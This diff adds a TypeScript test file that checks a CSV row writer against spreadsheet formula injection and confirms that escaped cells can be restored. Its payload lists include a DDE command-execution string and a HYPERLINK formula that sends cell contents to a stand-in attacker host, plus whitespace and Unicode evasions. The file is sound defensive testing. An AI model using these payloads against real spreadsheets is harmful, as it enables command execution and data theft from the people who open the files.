@@ -1,0 +1,103 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { reportMeasurement } from '../../testing/report-measurement';
+import { csvRow } from './csv-row';
+
+const STARTS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFE66', '\uFE62', '\uFE63', '\uFE6B'];
+const BEFORE = [
+  ...['', ' ', '   ', '\u00A0', '\uFEFF', '\u200B', '\u200D', '\u2060', '\u00AD', '\v', '\f', '\t', '\r', '\n', '\r\n'],
+  ...['"', "'", "''", '\u201C', '\u00AB', ' "', '\u2003\u3000', '\u202E', '\u0001', '\u2800', '\u3164'],
+  ...['x;', 'x; ', 'x;;', 'x\t', 'x\n', 'x\r', 'a "b";', 'x;\uFEFF"', ';', ';\n'],
+];
+const AFTER = ["cmd|'/c calc'!A0", '1+1', 'HYPERLINK("http://evil.example?"&A1,"Open")', 'SUM(A1:A9)*cmd'];
+const PAYLOADS = STARTS.flatMap((start, at) =>
+  BEFORE.map((before, place) => `${before}${start}${AFTER[(at + place) % AFTER.length] ?? ''}`),
+);
+
+/** The cells of a text as a spreadsheet parses it: quotes count only at the beginning of a cell. */
+function cellsOf(text: string, separator: string): string[] {
+  const cells: string[] = [];
+  let [cell, at] = ['', 0];
+  while (at < text.length) {
+    if (cell === '' && text[at] === '"') {
+      for (at++; at < text.length && !(text[at] === '"' && text[at + 1] !== '"'); at++) {
+        if (text[at] === '"') at++;
+        cell += text[at] ?? '';
+      }
+      at++;
+      while (at < text.length && text[at] !== separator && !'\r\n'.includes(text[at] ?? '')) cell += text[at++] ?? '';
+    }
+    const next = text[at] ?? '\n';
+    if (next === separator || next === '\r' || next === '\n') {
+      cells.push(cell);
+      cell = '';
+    } else cell += next;
+    at++;
+  }
+  return [...cells, cell];
+}
+
+const BLANK = /^[\s\p{Z}\p{Cc}\p{Cf}\u2800\u3164"]+/u;
+/** Whether a spreadsheet could take a cell for a formula, also behind spaces and double quotes. */
+const isLive = (cell: string) =>
+  STARTS.includes(cell.replace(BLANK, '').slice(0, 1)) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
+const liveIn = (line: string) => [',', ';', '\t'].flatMap((separator) => cellsOf(line, separator).filter(isLive));
+
+/** Restores the exported text: of the apostrophes before a formula, the first one was added. */
+function restored(cell: string): string {
+  const skipped = '[\\p{Z}\\p{Cc}\\p{Cf}\\p{Quotation_Mark}`\\u2800\\u3164\\u115F\\u1160\\uFFA0]*';
+  const start = `${skipped}[${STARTS.join('').replace('-', '\\-')}]`;
+  return cell.replace(new RegExp(`^'(?='*[\\t\\r\\n]|${start})|(?<=[;\\t\\r\\n])'(?=${start})`, 'gu'), '');
+}
+
+describe('a row', () => {
+  it.each([
+    ['a plain text', 'Oak', 'Oak'],
+    ['a comma', 'a, b', '"a, b"'],
+    ['a quote', 'a "b"', '"a ""b"""'],
+    ['a line break', 'a\nb', '"a\nb"'],
+    ['a formula', '=1+1', "'=1+1"],
+    ['a plus', '+cmd', "'+cmd"],
+    ['a minus', '-2+3', "'-2+3"],
+    ['an at', '@SUM(A1)', "'@SUM(A1)"],
+    ['a tab', '\t=1', '"\'\t\'=1"'],
+    ['a formula with a comma', '=HYPERLINK("x","y")', '"\'=HYPERLINK(""x"",""y"")"'],
+    ['a formula behind a semicolon', 'x;=1', '"x;\'=1"'],
+    ['a list with a dash', 'Ann; Bob - clerk', '"Ann; Bob - clerk"'],
+    ['a negative amount', '-12.50', '-12.50'],
+    ['a number of a telephone', '+15550147', '+15550147'],
+  ])('escapes %s without loss', (_name, cell, written) => expect(csvRow([cell])).toBe(`${written}\r\n`));
+});
+
+it('leaves no payload active in any cell, with commas, semicolons and tabs as separators', () => {
+  const live = PAYLOADS.flatMap((payload) => [
+    ...liveIn(csvRow([payload, 'x'])),
+    ...liveIn(csvRow(['x', payload])),
+    ...liveIn(csvRow(['a "quoted" one', payload, payload])),
+  ]);
+  expect(live).toEqual([]);
+  // Control: written by RFC 4180 alone, every payload is active in some spreadsheet.
+  const bare = (payload: string) => `x,"${payload.replaceAll('"', '""')}"`;
+  const missed = PAYLOADS.filter((payload) => liveIn(bare(payload)).length === 0 && !/^['\u201C\u00AB]/.test(payload));
+  expect(missed).toEqual([]);
+  reportMeasurement(
+    'T24',
+    `${PAYLOADS.length} payloads x 3 places x 3 separators, cells and headers: ${live.length} live`,
+  );
+});
+
+it('writes every text so that it can be restored', () => {
+  const alphabet = [...STARTS, ...BEFORE.filter((one) => one !== ''), ';', ',', '1', 'a', '.', '\u00E9'];
+  const text = fc.array(fc.constantFrom(...alphabet), { maxLength: 8 }).map((parts) => parts.join(''));
+  let read = 0;
+  const check = (cells: readonly string[]) => {
+    const line = csvRow(cells);
+    const back = cellsOf(line.slice(0, -2), ',');
+    // An empty cell at the end of a row is preserved.
+    expect(back.slice(0, cells.length).map(restored)).toEqual(cells);
+    read += cells.length;
+  };
+  fc.assert(fc.property(fc.tuple(text, text, text), check), { numRuns: 2_000 });
+  for (const payload of PAYLOADS) check([payload, 'x', payload]);
+  reportMeasurement('M21', `${read} cells written and read back: 100 % identical`);
+});
